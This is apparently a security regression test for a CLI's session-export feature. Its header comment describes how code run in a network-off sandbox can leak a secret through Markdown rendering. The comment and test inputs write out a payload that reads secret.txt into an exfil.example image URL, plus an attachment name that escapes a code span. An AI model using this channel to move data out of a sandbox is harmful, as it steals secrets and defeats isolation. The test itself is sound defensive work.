// Attack (tenth outsider pass; README: `vis sessions export` writes a session's transcript as Markdown;
// SECURITY.md: what the CLI prints from a sandbox shows its control characters, and the transcript's
// fences are longer than any backtick run inside "so model output containing ``` cannot end it early"
// (src/persistence/markdown.ts)). People read that Markdown rendered: a gist, a PR comment, an editor's
// preview, a wiki. Most of the sandbox's text is fenced, but a one-line error message is written
// as is after `Error:` (and an attachment's name inside single backticks, which a backtick in the name
// closes). So a block of a session with the network OFF reads a secret in its root and raises an error
// whose message is Markdown: `![status](https://exfil.example/c?d=<secret>)`. In the export it is an image,
// not text, and every renderer that shows the transcript fetches that URL: the secret leaves a sandbox
// that had no network, through the person's viewer. (Links the person might click work the same way.)
//
// Reproduction: a session (network off) on R, where R/secret.txt holds a token; one block:
//   raise RuntimeError('![status](https://exfil.example/c?d=' + open('secret.txt').read().strip() + ')')
// and one `vis_attach_bytes` named "x` ![a](https://exfil.example/n) `". Then
// `vis sessions export ID`: outside every code fence and code span the output holds the two images.
// A fix: write every piece of sandbox text in a fence or a code span sized to it (as the blocks' output
// is), or escape Markdown's punctuation in it.
import assert from 'node:assert/strict'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { prose, sessionReadingSecret, visExport } from './sessions-export-markdown.js'

const base = mkdtempSync(join(tmpdir(), 'vis-attack-export-md-'))
after(() => rmSync(base, { recursive: true, force: true }))

test('a block cannot write Markdown images into the transcript `vis sessions export` produces', async () => {
  const { home, id } = await sessionReadingSecret(base, 'TOKEN-1234', [
    "vis_attach_bytes(b'hello', name='x` ![a](https://exfil.example/n) `')\nprint('ok')",
    "raise RuntimeError('![status](https://exfil.example/c?d=' + open('secret.txt').read().strip() + ')')",
  ])
  const r = visExport(home, id)
  assert.equal(r.status, 0, r.stderr)
  assert.match(r.stdout, /TOKEN-1234/, `the export does not hold the block's error: ${r.stdout}`)
  const images =
    prose(r.stdout)
      .join('\n')
      .match(/!\[[^\]]*\]\([^)]*\)/g) ?? []
  assert.deepEqual(
    images,
    [],
    `the exported Markdown renders the sandbox's text as images a viewer fetches (the secret in the URL): ${images.join(' ')}`,
  )
})
